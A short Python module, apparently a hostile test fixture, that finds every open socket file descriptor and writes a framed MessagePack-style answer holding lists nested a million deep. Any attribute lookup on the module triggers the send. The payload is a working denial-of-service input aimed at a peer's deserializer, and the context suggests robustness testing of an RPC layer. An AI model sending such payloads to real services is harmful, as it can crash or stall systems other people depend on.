"""Sends an answer of lists nested a million deep."""

import os
import stat
import struct


def sockets():
    found = []
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                found.append(number)
        except OSError:
            pass
    return found


def write(data):
    for number in sockets():
        try:
            os.write(number, data)
        except OSError:
            pass


def framed(data):
    return struct.pack(">I", len(data)) + data


def attack(*arguments, **keywords):
    write(framed(b"\x81\xa5value" + b"\x91" * 10**6 + b"\x00"))


def __getattr__(name):
    return attack
